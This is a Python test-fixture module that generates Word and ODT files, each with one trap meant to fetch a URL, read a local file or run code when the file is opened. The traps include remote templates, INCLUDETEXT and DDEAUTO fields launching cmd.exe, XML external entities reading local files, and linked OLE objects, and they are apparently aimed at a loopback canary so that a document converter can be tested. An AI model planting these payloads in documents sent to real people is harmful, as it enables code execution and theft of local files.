"""Word documents that try to fetch, read or run something when they are opened.

Each is an ordinary document with the word REFERENCE-VISIBLE and one trap, aimed at a URL (a
loopback canary in the tests) or at a local file.
"""

import gzip
from collections.abc import Callable

from tests.documents.payloads import edited, packed, unpacked, with_part
from tests.documents.wordxml import (
    NAMESPACES,
    OFFICE,
    VISIBLE,
    base,
    before_sections,
    field,
    image_part,
    picture,
    related,
    settings,
)

Trap = Callable[[str, str], bytes]
TRAPS: dict[str, Trap] = {}


def trap(make: Trap) -> Trap:
    TRAPS[make.__name__] = make
    return make


def names() -> list[str]:
    return sorted(TRAPS)


def document(name: str, url: str, path: str) -> bytes:
    """The document of one trap, aimed at ``url`` or at the file ``path``."""
    return TRAPS[name](url, path)


@trap
def linked_image_http(url: str, path: str) -> bytes:
    return related(base(picture('r:link="rIdX"')), "image", url + "/image.png")


@trap
def linked_image_file(url: str, path: str) -> bytes:
    return related(base(picture('r:link="rIdX"')), "image", f"file://{path}.png")


@trap
def linked_image_unc(url: str, path: str) -> bytes:
    return related(base(picture('r:link="rIdX"')), "image", r"\\127.0.0.1\part\x.png")


@trap
def hyperlink_lent_to_an_image(url: str, path: str) -> bytes:
    return related(base(picture('r:link="rIdX"')), "hyperlink", url + "/image.png")


@trap
def hyperlink_embedded_as_an_image(url: str, path: str) -> bytes:
    return related(base(picture('r:embed="rIdX"')), "hyperlink", f"file://{path}.png")


@trap
def image_link_without_target_mode(url: str, path: str) -> bytes:
    return related(base(picture('r:embed="rIdX"')), "image", f"file://{path}.png", outside=False)


@trap
def image_link_in_a_header(url: str, path: str) -> bytes:
    linked = picture('r:link="rIdX"')
    header = (
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f"{NAMESPACES}><w:p>{linked}</w:p></w:hdr>"
    )
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    docx = with_part(base(), "word/headerX.xml", kind, header)
    docx = related(docx, "header", "headerX.xml", outside=False, key="rIdH")
    docx = edited(
        docx,
        "word/document.xml",
        "<w:sectPr",
        f'<w:sectPr xmlns:rx="{OFFICE}"',
    )
    members = unpacked(docx)
    body = members["word/document.xml"].decode()
    cut = body.index(">", body.index("<w:sectPr")) + 1
    reference = '<w:headerReference w:type="default" rx:id="rIdH"/>'
    members["word/document.xml"] = (body[:cut] + reference + body[cut:]).encode()
    return related(packed(members), "image", url + "/header.png", part="word/headerX.xml")


@trap
def vml_image_by_address(url: str, path: str) -> bytes:
    shape = f'<v:shape style="width:90pt;height:90pt"><v:imagedata src="{url}/v.png"/></v:shape>'
    return base(f"<w:r><w:pict>{shape}</w:pict></w:r>")


@trap
def vml_image_by_relationship(url: str, path: str) -> bytes:
    shape = '<v:shape style="width:90pt;height:90pt"><v:imagedata r:id="rIdX"/></v:shape>'
    return related(base(f"<w:r><w:pict>{shape}</w:pict></w:r>"), "image", url + "/v.png")


@trap
def vml_fill_of_a_file(url: str, path: str) -> bytes:
    shape = (
        '<v:rect style="width:90pt;height:90pt" filled="t">'
        f'<v:fill type="frame" o:href="file://{path}.png" src="file://{path}.png"/></v:rect>'
    )
    return base(f"<w:r><w:pict>{shape}</w:pict></w:r>")


@trap
def remote_template_http(url: str, path: str) -> bytes:
    return settings(
        base(), '<w:attachedTemplate rx:id="rIdX"/>', "attachedTemplate", url + "/t.dotm"
    )


@trap
def remote_template_file(url: str, path: str) -> bytes:
    return settings(
        base(), '<w:attachedTemplate rx:id="rIdX"/>', "attachedTemplate", f"file://{path}.dotm"
    )


@trap
def mail_merge_source(url: str, path: str) -> bytes:
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/>'
        '<w:dataSource rx:id="rIdX"/></w:mailMerge>'
    )
    return settings(base(), merge, "mailMergeSource", f"file://{path}")


def _chunk(part: str, kind: str, content: str) -> bytes:
    docx = with_part(base(), part, kind, content)
    docx = before_sections(docx, "altChunk")
    return related(docx, "aFChunk", part.removeprefix("word/"), outside=False)


@trap
def alt_chunk_html(url: str, path: str) -> bytes:
    html = (
        f'<html><body><img src="{url}/chunk.png"><iframe src="file://{path}"></iframe>'
        f'<link rel="stylesheet" href="{url}/s.css"></body></html>'
    )
    return _chunk("word/chunk.html", "text/html", html)


@trap
def alt_chunk_rtf(url: str, path: str) -> bytes:
    rtf = (
        r'{\rtf1{\field{\*\fldinst INCLUDETEXT "' + path + r'"}{\fldrslt x}}'
        r'{\field{\*\fldinst INCLUDEPICTURE "' + url + r'/r.png" \\d}{\fldrslt }}}'
    )
    return _chunk("word/chunk.rtf", "application/rtf", rtf)


@trap
def alt_chunk_elsewhere(url: str, path: str) -> bytes:
    docx = before_sections(base(), "altChunk")
    return related(docx, "aFChunk", url + "/chunk.html")


@trap
def sub_document(url: str, path: str) -> bytes:
    docx = before_sections(base(), "subDoc")
    return related(docx, "subDocument", f"file://{path}")


@trap
def linked_ole_object(url: str, path: str) -> bytes:
    shape = '<v:shape id="s1" style="width:90pt;height:90pt"/>'
    ole = (
        '<o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="s1" DrawAspect="Content" '
        'ObjectID="_1" r:id="rIdX" UpdateMode="Always"/>'
    )
    docx = base(f"<w:r><w:object>{shape}{ole}</w:object></w:r>")
    return related(docx, "oleObject", url + "/o.docx")


@trap
def embedded_ole_object(url: str, path: str) -> bytes:
    ole = (
        '<v:shape id="s1" style="width:90pt;height:90pt"/><o:OLEObject Type="Embed" '
        'ProgID="Package" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="rIdX"/>'
    )
    docx = base(f"<w:r><w:object>{ole}</w:object></w:r>")
    content = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
    docx = with_part(
        docx,
        "word/embeddings/o.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
        content,
    )
    return related(docx, "oleObject", "embeddings/o.bin", outside=False)


@trap
def embedded_workbook(url: str, path: str) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    docx = with_part(base(), "word/embeddings/x.xlsx", kind, packed({"a": b"b"}))
    return related(docx, "package", "embeddings/x.xlsx", outside=False)


@trap
def include_text_http(url: str, path: str) -> bytes:
    return base(field(f' INCLUDETEXT "{url}/t.txt" '))


@trap
def include_text_file(url: str, path: str) -> bytes:
    return base(field(f' INCLUDETEXT "{path}" '))


@trap
def include_text_split_in_runs(url: str, path: str) -> bytes:
    return base(field(" INCL", "UDE", f'TEXT "{path}" '))


@trap
def include_picture_http(url: str, path: str) -> bytes:
    return base(field(f' INCLUDEPICTURE "{url}/p.png" \\d '))


@trap
def include_picture_simple_field(url: str, path: str) -> bytes:
    instruction = f"includepicture &quot;{url}/p.png&quot; \\d"
    return base(f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>')


@trap
def include_inside_another_field(url: str, path: str) -> bytes:
    inner = field(f' INCLUDETEXT "{path}" ')
    return base(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r>'
        f'{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@trap
def dde_field(url: str, path: str) -> bytes:
    return base(field(f' DDE soffice "{path}" "texte" '))


@trap
def dde_auto_field(url: str, path: str) -> bytes:
    return base(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '))


@trap
def link_field(url: str, path: str) -> bytes:
    return base(field(f' LINK Word.Document.12 "{path}" "" \\a \\t '))


@trap
def database_field(url: str, path: str) -> bytes:
    return base(field(f' DATABASE \\d "{path}" \\c "DSN=x" '))


@trap
def macro_button_field(url: str, path: str) -> bytes:
    return base(field(" MACROBUTTON AutoOpen cliquez "))


def _svg(url: str, path: str) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="90" height="90"><image xlink:href="{url}/s.png" width="45" height="45"/>'
        f'<image xlink:href="file://{path}.png" width="45" height="45"/></svg>'
    ).encode()


@trap
def svg_image(url: str, path: str) -> bytes:
    return image_part(_svg(url, path), "word/media/x.svg", "image/svg+xml")


@trap
def svg_named_png(url: str, path: str) -> bytes:
    return image_part(_svg(url, path))


@trap
def svg_compressed(url: str, path: str) -> bytes:
    return image_part(
        gzip.compress(_svg(url, path)), "word/media/x.svgz", "image/svg+xml-compressed"
    )


@trap
def svg_declared_as_xml(url: str, path: str) -> bytes:
    return image_part(_svg(url, path), "word/media/x.xml", "application/xml")


@trap
def eps_image(url: str, path: str) -> bytes:
    eps = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 90 90\n({path}) run\nshowpage\n"
    return image_part(eps.encode(), "word/media/x.eps", "image/x-eps")


@trap
def html_named_png(url: str, path: str) -> bytes:
    return image_part(f'<html><img src="{url}/h.png"></html>'.encode())


@trap
def macros(url: str, path: str) -> bytes:
    content = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
    docx = with_part(base(), "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", content)
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return related(docx, kind, "vbaProject.bin", outside=False)


@trap
def activex_control(url: str, path: str) -> bytes:
    xml = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"/>'
    )
    docx = base('<w:r><w:object><w:control r:id="rIdX" w:name="c"/></w:object></w:r>')
    docx = with_part(docx, "word/activeX/a.xml", "application/vnd.ms-office.activeX+xml", xml)
    return related(docx, "control", "activeX/a.xml", outside=False)


@trap
def styles_elsewhere(url: str, path: str) -> bytes:
    return related(base(), "styles", url + "/styles.xml", key="rIdS")


@trap
def header_elsewhere(url: str, path: str) -> bytes:
    return related(base(), "header", url + "/header.xml", key="rIdS")


@trap
def font_elsewhere(url: str, path: str) -> bytes:
    return related(base(), "font", url + "/f.odttf", part="word/fontTable.xml")


@trap
def frameset(url: str, path: str) -> bytes:
    return related(base(), "frame", url + "/frame.html", part="word/webSettings.xml")


@trap
def external_entity(url: str, path: str) -> bytes:
    members = unpacked(base("<w:r><w:t>ENTITE</w:t></w:r>"))
    text = members["word/document.xml"].decode().replace("ENTITE", "&leak;")
    head = (
        f'<!DOCTYPE d [<!ENTITY leak SYSTEM "file://{path}"><!ENTITY % p SYSTEM "{url}/x.dtd">%p;]>'
    )
    cut = text.index("?>") + 2
    members["word/document.xml"] = (text[:cut] + head + text[cut:]).encode()
    return packed(members)


def _flat_odt(url: str, path: str) -> bytes:
    return (
        '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
        'office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink='
        '"http://www.w3.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text" '
        f'office:version="1.2"><office:body><office:text><text:p>{VISIBLE}</text:p><text:section '
        f'text:name="s"><text:section-source xlink:href="file://{path}"/></text:section>'
        "</office:text></office:body></office:document>"
    ).encode()


@trap
def flat_odt_renamed(url: str, path: str) -> bytes:
    return _flat_odt(url, path)


@trap
def html_renamed(url: str, path: str) -> bytes:
    return f'<html><body>{VISIBLE}<img src="{url}/h.png"></body></html>'.encode()


@trap
def odt_renamed(url: str, path: str) -> bytes:
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": _flat_odt(url, path),
            "META-INF/manifest.xml": b"<x/>",
        }
    )
